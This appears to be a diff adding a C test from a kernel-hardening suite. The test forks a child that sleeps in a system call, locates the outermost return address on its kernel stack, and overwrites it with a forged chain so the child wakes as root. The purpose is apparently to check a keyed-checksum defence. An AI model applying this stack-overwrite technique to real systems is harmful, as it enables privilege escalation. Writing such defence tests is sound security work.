@@ -1,0 +1,83 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * What: The program lets a child sleep in a system call, and replaces the last return address of
+ * the sleeping call chain and what stands above it, so that the call ends by making the child root.
+ * Stops it: The call chain of a task that does not run is under a keyed sum, whose key is in no
+ * memory.
+ * Without: The child wakes up, and is root.
+ */
+#include "forged_chain.h"
+
+ATTACK("shadow_stack", "sleeping_call", "shadow_stack: return address of a sleeping task changed",
+       "The program lets a child sleep in a system call, and replaces the last return "
+       "address of the sleeping call chain, so that the call ends by making the child "
+       "root.",
+       "The call chain of a task that does not run is under a keyed sum, whose key is "
+       "in no memory.",
+       "The child wakes up, and is root.");
+
+static bool control(void)
+{
+	return is_ordinary();
+}
+
+static void sleep_until_root(void)
+{
+	(void)own_cpu(1);
+	do
+		sleep_milliseconds(300);
+	while (call0(__NR_geteuid) != 0);
+	leave(reads_prize() ? 1 : 0);
+}
+
+/*
+ * Where the return address of the outermost function stands: the frames are linked, and the
+ * outermost has no frame above it. 0: the task is not asleep.
+ */
+static uint64_t outermost_return(uint64_t task, uint64_t top)
+{
+	const uint64_t pointer = peek(task + member("task.arch.stack_pointer"));
+	uint64_t frame = peek(pointer + 40), next;
+
+	if (peek32(task + member("task.state")) == 0)
+		return 0;
+	for (unsigned int i = 0; i < 64; i++) {
+		if (frame < top - KERNEL_STACK_SIZE || frame >= top - 16)
+			return 0;
+		next = peek(frame);
+		if (next == 0)
+			return frame + 8;
+		frame = next;
+	}
+	return 0;
+}
+
+static bool fire(void)
+{
+	const uint64_t task = own_task();
+	const long id = fork_program();
+	uint64_t words[CHAIN_SIZE / 8], child, top, slot = 0;
+	int status;
+
+	if (id == 0)
+		sleep_until_root();
+	child = child_task(task, id);
+	top = peek(child + member("task.stack_top"));
+	/* The distance between chain and frame is drawn for each call: one that leaves room. */
+	while (!slot || slot + CHAIN_SIZE > top - FRAME_SIZE) {
+		sleep_milliseconds(50);
+		slot = outermost_return(child, top);
+	}
+	make_chain(words, slot, child, top);
+	for (unsigned int i = 0; i < CHAIN_SIZE / 8; i++)
+		poke(slot + 8 * i, words[i]);
+	status = wait_program(id);
+	if ((status & 0x7f) == SIGKILL)
+		call2(__NR_kill, call0(__NR_getpid), SIGKILL);
+	return status >> 8 == 1;
+}
+
+static void victim(void)
+{
+	victim_waits();
+}
